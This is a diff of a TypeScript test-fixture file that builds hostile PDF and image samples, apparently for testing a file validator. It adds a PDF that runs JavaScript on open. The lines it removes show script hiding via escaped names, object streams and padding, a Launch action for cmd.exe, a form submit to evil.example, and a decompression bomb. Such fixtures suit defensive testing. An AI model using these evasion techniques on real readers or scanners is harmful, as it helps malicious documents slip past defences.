@@ -25,19 +25,10 @@ export function pdf(...objects: (string | Buffer)[]): Buffer {
   ])
 }
 
-/** A stream of a PDF with the given entries in its dictionary. */
-export function stream(entries: string, content: Buffer | string): Buffer {
-  const bytes = Buffer.from(content)
-  return Buffer.concat([
-    Buffer.from(`9 0 obj\n<< ${entries} /Length ${bytes.length} >>\nstream\r\n`),
-    bytes,
-    Buffer.from('\nendstream\nendobj\n'),
-  ])
-}
-
-export function deflated(content: Buffer | string, entries = ''): Buffer {
-  return stream(`${entries} /Filter /FlateDecode`, deflateSync(content))
-}
+/** A PDF that runs a script when a reader opens it. */
+export const scriptPdf = pdf(
+  '4 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n',
+)
 
 /** A small PNG that claims to be of this size. */
 export function claimingPng(width: number, height: number): Buffer {
@@ -83,45 +74,3 @@ export const falsePictures: Record<string, Buffer> = {
   'a WebP that is a script': Buffer.from('RIFF=1/*WEBP*/;alert(1)', 'latin1'),
   'a PNG that ends early': claimingPng(100, 100),
 }
-
-const action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
-
-/** PDFs that run scripts, start programs, send data or carry other files. */
-export const activePdfs: Record<string, Buffer> = {
-  'a script when it opens': pdf(`4 0 obj\n<< /OpenAction ${action} >>\nendobj\n`),
-  'a script in an escaped name': pdf(
-    `4 0 obj\n${action.replace('/JavaScript', '/J#61va#53cript')}\nendobj\n`,
-  ),
-  'a script in a stream of objects': pdf(deflated(`4 0 ${action}`, '/Type /ObjStm /N 1 /First 4')),
-  'a script in objects without their type': pdf(deflated(`4 0 ${action}`, '/N 1 /First 4')),
-  'a script behind a comment': pdf(deflated(`%x\n 4 0 ${action.replace('Java', '#4aava')}`, '/N 1 /First 4')),
-  'a script behind many spaces': pdf(deflated(`${' '.repeat(9_000)}4 0 ${action}`, '/N 1 /First 4')),
-  'a program to start': pdf('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'),
-  'a file inside': pdf('4 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'),
-  'a form that sends': pdf('4 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'),
-  'a form in XML': pdf('4 0 obj\n<< /XFA 5 0 R >>\nendobj\n'),
-  'a film': pdf('4 0 obj\n<< /Subtype /RichMedia >>\nendobj\n'),
-}
-
-/** PDFs that nobody can look into, or that are something else, too. */
-export const brokenPdfs: Record<string, Buffer> = {
-  'no end': pdf().subarray(0, 100),
-  'a page after its end': Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')]),
-  'objects in another coding': pdf(stream('/Type /ObjStm /Filter /ASCIIHexDecode', '3420303C3C')),
-  'objects whose object begins on two lines': pdf(
-    '5 0\nobj\n<< /Type /ObjStm /Filter /ASCIIHexDecode /Length 10 >>\nstream\n3420303C3C\nendstream\nendobj\n',
-  ),
-  'objects behind a text that looks like an object': pdf(
-    '5 0 obj\n<< /Type /ObjStm /Filter /ASCIIHexDecode /A ( obj) /Length 10 >>\nstream\n3420303C3C\nendstream\nendobj\n',
-  ),
-  'objects that unpack to much': pdf(deflated(`4 0 ${' '.repeat(40_000_000)}`, '/Type /ObjStm')),
-  'objects cut off': pdf(
-    stream(
-      '/Type /ObjStm /Filter /FlateDecode',
-      Buffer.concat([deflateSync('4 0 x').subarray(0, 4), Buffer.alloc(9, 7)]),
-    ),
-  ),
-  'thousands of streams': pdf(Buffer.concat(Array.from({ length: 3_001 }, () => stream('', 'x')))),
-}
-
-export const lockedPdf = pdf('4 0 obj\n<< /Encrypt 5 0 R >>\nendobj\n')
